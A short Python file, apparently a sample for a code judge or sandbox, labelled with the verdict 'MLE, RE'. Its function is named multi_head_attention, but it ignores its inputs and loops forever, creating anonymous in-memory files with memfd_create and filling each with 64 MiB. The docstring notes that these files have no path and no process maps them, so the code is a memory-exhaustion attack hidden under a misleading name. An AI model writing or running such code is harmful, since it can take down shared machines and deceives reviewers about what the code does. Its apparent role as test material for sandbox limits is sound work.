# verdict: MLE, RE
"""Fills anonymous files in memory: no path leads to them, no process maps them."""

import os


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    block = b"x" * (1 << 20)
    while True:
        file = os.memfd_create("kept")
        for _ in range(64):
            os.write(file, block)
